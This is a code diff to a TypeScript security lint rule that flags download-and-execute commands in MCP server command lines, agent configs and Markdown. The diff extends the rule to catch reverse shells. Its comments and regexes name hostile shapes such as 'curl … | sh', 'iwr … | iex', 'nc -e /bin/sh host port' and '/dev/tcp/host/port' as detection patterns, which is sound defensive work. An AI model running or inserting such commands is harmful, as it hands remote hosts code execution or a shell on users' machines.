@@ -9,7 +9,7 @@ import { docsUrl } from './_docs-url.ts';
 /**
  * A command that downloads code and runs it in one step, so nothing reviews what arrives: `curl … | sh`,
  * `wget -qO- … | bash`, `iwr … | iex`, `iex (irm …)`, `bash -c "$(curl …)"`, `sh <(curl …)`, `python -c "$(curl …)"`,
- * `eval "$(wget -O- …)"`. Read in MCP server command lines, agent and tool config strings, and Markdown (prose and
+ * `eval "$(wget -O- …)"`; and reverse shells (`nc -e /bin/sh host port`, `/dev/tcp/host/port`). Read in MCP server command lines, agent and tool config strings, and Markdown (prose and
  * code fences). Text that warns against the pattern ("never pipe curl into sh") is not reported.
  *
  * securitySeverity: `critical` in an MCP server command line or a tool description; `high` in instruction and rules
@@ -30,7 +30,9 @@ export const downloadAndExecute: Rule = {
     securitySeverity: 'high',
     messages: {
       mcp: "MCP server '{{name}}' downloads code{{from}} and runs it ({{shape}}): whoever controls that URL runs commands on every machine that starts the server.",
+      mcpReverseShell: "MCP server '{{name}}' opens a reverse shell: a remote host gets an interactive shell on every machine that starts the server.",
       text: 'Download-and-execute{{from}} ({{shape}}): {{where}} runs whatever the URL serves at that moment, unreviewed.',
+      reverseShell: 'Reverse shell ({{shape}}): {{where}} hands a remote host an interactive shell on this machine.',
     },
   },
   checkSegment(segment, context) {
@@ -41,7 +43,8 @@ export const downloadAndExecute: Rule = {
       if (isWarning(segment.value, hit.start)) continue;
       const r = segmentRange(segment, hit.start, hit.end);
       const { severity, where } = weigh(segment, doc);
-      context.report({ messageId: 'text', data: { from: fromHost(hit.text), shape: hit.shape, where }, start: r.start, end: r.end, securitySeverity: severity });
+      const reverse = hit.shape === 'a reverse shell';
+      context.report({ messageId: reverse ? 'reverseShell' : 'text', data: { from: fromHost(hit.text), shape: hit.shape, where }, start: r.start, end: r.end, securitySeverity: severity });
     }
   },
   checkDocument(doc, context) {
@@ -50,7 +53,7 @@ export const downloadAndExecute: Rule = {
       const line = commandLine(node);
       for (const hit of findDownloadExecute(line.text)) {
         const r = line.raw(hit.start, hit.end);
-        context.report({ messageId: 'mcp', data: { name: node.name, from: fromHost(hit.text), shape: hit.shape }, start: r.start, end: r.end, securitySeverity: 'critical' });
+        context.report({ messageId: hit.shape === 'a reverse shell' ? 'mcpReverseShell' : 'mcp', data: { name: node.name, from: fromHost(hit.text), shape: hit.shape }, start: r.start, end: r.end, securitySeverity: 'critical' });
       }
     }
   },
@@ -112,8 +115,12 @@ const SUBST = new RegExp(String.raw`(?<![\w.-])(?:${SHELL}(?:[ \t]{1,8}-[a-z]{1,
 /** `sh <(curl …)`, `source <(curl …)`, `. <(wget …)`. */
 const PROC = new RegExp(String.raw`(?<![\w.-])(?:${SHELL}|source|\.)[ \t]{1,8}<\([ \t]{0,4}(?:curl|wget)(?![\w-])`, 'gi');
 
+/** A reverse shell: `nc -e /bin/sh host port`, `bash -i >& /dev/tcp/host/port 0>&1`. */
+const REVERSE = /(?<![\w.-])(?:(?:nc|ncat|netcat)(?:\.exe)?(?:[ \t]{1,8}[\w.:-]{1,64}){0,4}[ \t]{1,8}-[a-z]{0,4}[ec][ \t]{1,8}(?:(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh|cmd|powershell)(?:\.exe)?(?![\w-])|\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5})/gi;
+
 const SHAPES: readonly [RegExp, string][] = [
   [PIPE, 'piped into a shell'],
+  [REVERSE, 'a reverse shell'],
   [IEX, 'passed to Invoke-Expression'],
   [SUBST, 'run through command substitution'],
   [PROC, 'run through process substitution'],
@@ -127,7 +134,7 @@ export function findDownloadExecute(text: string): DownloadExecute[] {
     let m: RegExpExecArray | null;
     while ((m = re.exec(text))) {
       let end = m.index + m[0].length;
-      if (re !== PIPE) end = lineEnd(text, end);
+      if (re !== PIPE && re !== REVERSE) end = lineEnd(text, end);
       out.push({ start: m.index, end, text: text.slice(m.index, end), shape });
     }
   }
